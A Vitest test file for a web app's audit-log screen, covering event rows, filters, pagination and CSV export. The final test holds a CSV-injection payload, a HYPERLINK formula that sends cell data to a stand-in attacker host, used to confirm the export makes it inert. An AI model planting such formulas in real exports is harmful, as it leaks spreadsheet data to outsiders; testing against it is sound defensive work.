// @vitest-environment jsdom
import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import Papa from 'papaparse';
import { AuditPage } from '../../../../src/app/pages/audit-page';
import { renderWithClient, setupMockApi } from '../../../helpers/mock-api';
import { auditEvent } from '../../../helpers/msw-audit';

// The Audit screen against the fake's GET /api/audit: filters the server applies, a page at a
// time newest first, each row's details, and the CSV of what is loaded.

const api = setupMockApi();

// jsdom lays nothing out: give the scroller a height and each row one, so the virtualizer
// renders a screenful. (clientHeight lives on Element.prototype: shadow it on HTMLElement's.)
const offsetHeight = Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'offsetHeight')!;
beforeAll(() => {
  Object.defineProperty(HTMLElement.prototype, 'clientHeight', {
    configurable: true,
    get(this: HTMLElement) {
      return this.dataset.testid === 'audit-scroller' ? 480 : 0;
    },
  });
  Object.defineProperty(HTMLElement.prototype, 'offsetHeight', {
    configurable: true,
    get(this: HTMLElement) {
      return this.dataset.index === undefined ? 0 : 40;
    },
  });
});
afterAll(() => {
  Reflect.deleteProperty(HTMLElement.prototype, 'clientHeight');
  Object.defineProperty(HTMLElement.prototype, 'offsetHeight', offsetHeight);
});

/** A Blob's text: jsdom's Blob has no text(). */
const textOf = (blob: Blob) =>
  new Promise<string>((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as string);
    reader.onerror = () => reject(reader.error ?? new Error('unreadable'));
    reader.readAsText(blob);
  });

const table = () => screen.getByRole('table', { name: 'Audit events' });
const status = () => screen.getByRole('status');
/** The query strings GET /api/audit was asked with, in order. */
const searches = () =>
  api.requests.filter((r) => r.path === '/api/audit').map((r) => r.search.slice(1));

function renderAudit() {
  const user = userEvent.setup();
  renderWithClient(<AuditPage />);
  return user;
}

describe('Audit screen', () => {
  it('shows each event newest first, its details opening on demand', async () => {
    api.state.audit.push(
      auditEvent({
        at: '2030-01-01T10:00:00.000Z',
        actor: 'grace',
        action: 'query.update',
        target: 'query:q_send',
        details: { changes: { name: { before: 'Send', after: 'SendSms' } } },
        ip: '10.0.0.7',
      }),
      auditEvent({
        at: '2030-01-01T11:00:00.000Z',
        details: {
          command: 'create-message',
          queryName: 'SendSms',
          params: { To: '+15558675310', Body: 'Hi' },
          sid: 'SM' + 'a'.repeat(32),
          status: 'failed',
          errorCode: 21211,
          durationMs: 80,
        },
        outcome: 'failure',
      }),
    );
    const user = renderAudit();
    expect(await screen.findByRole('heading', { name: 'Audit log' })).toBeInTheDocument();
    await waitFor(() => expect(status()).toHaveTextContent('2 events loaded · all loaded'));
    const rows = within(table()).getAllByRole('row').slice(1);
    expect(rows.map((r) => within(r).getAllByRole('cell')[2]!.textContent)).toEqual([
      'query.run',
      'query.update',
    ]);
    const [run, change] = rows as [HTMLElement, HTMLElement];
    expect(
      within(run)
        .getAllByRole('cell')
        .map((c) => c.textContent),
    ).toEqual([
      new Date('2030-01-01T11:00:00.000Z').toLocaleString(undefined, {
        dateStyle: 'short',
        timeStyle: 'medium',
      }),
      'ada',
      'query.run',
      'query:q_send',
      'failure',
      '127.0.0.1',
      'Create Message · To +15558675310 · failed · error 21211Show details',
    ]);

    await user.click(within(run).getByRole('button', { name: 'Show details' }));
    const details = within(run).getByRole('cell', { name: 'Details of query.run' });
    for (const text of ['Create Message', 'SendSms', '+15558675310', 'SM' + 'a'.repeat(32)])
      expect(within(details).getByText(text)).toBeInTheDocument();
    expect(within(details).getByText('failed')).toBeInTheDocument();
    expect(within(details).getByText('21211')).toBeInTheDocument();
    expect(within(run).getByRole('button', { name: 'Hide details' })).toHaveAttribute(
      'aria-expanded',
      'true',
    );

    await user.click(within(change).getByRole('button', { name: 'Show details' }));
    expect(within(change).getByRole('cell', { name: 'Details of query.update' })).toHaveTextContent(
      'nameSend → SendSms',
    );
  });

  it('asks the server for what the filters say, and shows what it answers', async () => {
    api.state.audit.push(
      auditEvent({ actor: 'ada', action: 'query.run', at: '2030-01-01T12:00:00.000Z' }),
      auditEvent({ actor: 'grace', action: 'query.run', at: '2030-01-01T12:00:00.000Z' }),
      auditEvent({ actor: 'ada', action: 'session.sign_in', at: '2030-01-01T12:00:00.000Z' }),
      auditEvent({ actor: 'ada', action: 'query.run', at: '2029-12-31T12:00:00.000Z' }),
    );
    const user = renderAudit();
    await waitFor(() => expect(status()).toHaveTextContent('4 events loaded'));
    expect(searches()).toEqual(['limit=100']);

    await user.type(screen.getByRole('textbox', { name: 'Actor' }), 'ada');
    await user.click(screen.getByRole('combobox', { name: 'Action' }));
    await user.click(await screen.findByRole('option', { name: 'query.run' }));
    fireEvent.change(screen.getByLabelText('Since'), { target: { value: '2030-01-01T00:00' } });
    fireEvent.change(screen.getByLabelText('Until'), { target: { value: '2030-01-02T00:00' } });
    // Nothing is asked until Apply.
    expect(searches()).toHaveLength(1);
    await user.click(screen.getByRole('button', { name: 'Apply' }));

    await waitFor(() => expect(searches()).toHaveLength(2));
    const expected = new URLSearchParams({
      actor: 'ada',
      action: 'query.run',
      since: new Date('2030-01-01T00:00').toISOString(),
      until: new Date('2030-01-02T00:00').toISOString(),
      limit: '100',
    });
    expect(searches()[1]).toBe(expected.toString());
    await waitFor(() => expect(status()).toHaveTextContent('1 event loaded · all loaded'));

    await user.click(screen.getByRole('button', { name: 'Clear' }));
    await waitFor(() => expect(status()).toHaveTextContent('4 events loaded'));
    expect(screen.getByRole('textbox', { name: 'Actor' })).toHaveValue('');
  });

  it('Load more asks for the next page by its cursor, until there is none', async () => {
    for (let i = 0; i < 150; i++)
      api.state.audit.push(auditEvent({ at: new Date(Date.UTC(2030, 0, 1, 0, i)).toISOString() }));
    const user = renderAudit();
    await waitFor(() =>
      expect(status()).toHaveTextContent('100 events loaded · older ones on the server'),
    );
    expect(table()).toHaveAttribute('aria-rowcount', '101');
    // Virtualized: a screenful of rows (480 px of 40 px rows, and a few beyond) is in the DOM.
    expect(within(table()).getAllByRole('row').length).toBeLessThan(30);

    await user.click(screen.getByRole('button', { name: 'Load more' }));
    await waitFor(() => expect(status()).toHaveTextContent('150 events loaded · all loaded'));
    const [, second] = searches();
    const params = new URLSearchParams(second);
    expect(params.get('cursor')).toEqual(expect.any(String));
    expect(params.get('limit')).toBe('100');
    expect(table()).toHaveAttribute('aria-rowcount', '151');
    expect(screen.queryByRole('button', { name: 'Load more' })).not.toBeInTheDocument();
  });

  it('exports what is loaded as CSV, a body that is a formula made inert', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    api.state.audit.push(
      auditEvent({ details: { command: 'create-message', params: { To: '+1', Body: evil } } }),
      auditEvent({ action: 'session.sign_in', target: 'session', details: {} }),
    );
    const blobs: Blob[] = [];
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      blobs.push(blob as Blob);
      return 'blob:audit';
    });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
    const user = renderAudit();
    await waitFor(() => expect(status()).toHaveTextContent('2 events loaded'));
    await user.click(screen.getByRole('button', { name: 'Export CSV' }));

    expect(click).toHaveBeenCalledTimes(1);
    expect((click.mock.contexts[0] as HTMLAnchorElement).download).toBe('audit-log.csv');
    const rows = Papa.parse<Record<string, string>>(await textOf(blobs[0]!), { header: true }).data;
    expect(rows.map((r) => r.action).sort()).toEqual(['query.run', 'session.sign_in']);
    const run = rows.find((r) => r.action === 'query.run')!;
    expect(run.body).toBe(`'${evil}`);
  });
});
